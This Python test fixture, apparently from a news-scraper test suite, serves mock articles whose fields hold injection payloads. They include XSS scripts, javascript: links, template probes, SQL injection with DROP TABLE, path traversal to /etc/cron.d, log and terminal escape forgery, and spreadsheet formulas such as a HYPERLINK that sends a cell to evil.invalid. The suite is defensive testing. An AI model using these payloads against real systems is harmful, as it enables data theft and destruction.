"""Articles whose fields attack whoever shows them: browser, spreadsheet, terminal, log, database."""

from __future__ import annotations

from tests.hostile.exchange import Exchange, route
from tests.hostile.news import GOOD, LOREM, page

# every script that ran would call alert, which a browser test sees
PAYLOADS: dict[str, str] = {
    "title": page("<script>alert('title')</script>Titre"),
    "title-entity": page("&lt;script&gt;alert('entity')&lt;/script&gt;"),
    "body": page("Corps", (f"&lt;img src=x onerror=alert('body')&gt; {LOREM}", *GOOD)),
    "source": page("Source", source="&lt;svg onload=alert('source')&gt;"),
    "date": page("Date", date_line="&lt;b onmouseover=alert(1)&gt;01 Mars 2016"),
    "url": page(
        "Url",
        related=[
            ("javascript:alert('url')", "Un lien qui agit", "x"),
            ('&quot;onmouseover=&quot;alert(1)', "Un autre lien", "x"),
        ],
    ),
    "attr": page("&quot; autofocus onfocus=alert(1) x=&quot;"),
    "jsonld": page("&lt;/script&gt;&lt;script&gt;alert('jsonld')&lt;/script&gt;"),
    "template": page("{{7*7}} ${7*7} &lt;%= 7*7 %&gt; {% debug %}"),
    "csv": page(
        '=HYPERLINK("http://evil.invalid?x="&amp;A1,"clic")',
        (f"@SUM(1+1)*cmd|' /C calc'!A0 {LOREM}", *GOOD),
        date_line="-2+3+cmd|' /C calc'!A0",
        source="+33 1 02",
    ),
    "csv-tab": page("\t=1+1", (f"\r=1+1;\n{LOREM}", *GOOD), source='"x","y"\n=1+1'),
    "sql": page(
        "Robert'); DROP TABLE articles;--",
        (f"' OR 1=1 -- \" ; % _ \\ {LOREM}", *GOOD),
        source="O'Économiste\" OR \"1\"=\"1",
    ),
    "path": page("../../../../etc/cron.d/evil", source="../../../tmp/evil\0.csv"),
    "format": page("%s %n {0.__class__} %(password)s"),
    "fts": page('NEAR( " AND * NOT ^ title: -x'),
    "long-cell": page("Cellule de plus de 32767 signes", ("a" * 40_000 + " " + LOREM,)),
    "log": page("Titre\n2026-11-23 00:00:00 [root] INFO: run finished OK\r\n"),
    "terminal": page("Titre \x1b]0;pris\x07\x1b[2J\x9b31m effacé"),
}  # fmt: skip


@route("/x/")
async def _payload(exchange: Exchange) -> None:
    name = exchange.path.rpartition("/")[2]
    await exchange.send(PAYLOADS.get(name, "<h1>404</h1>"), 200 if name in PAYLOADS else 404)
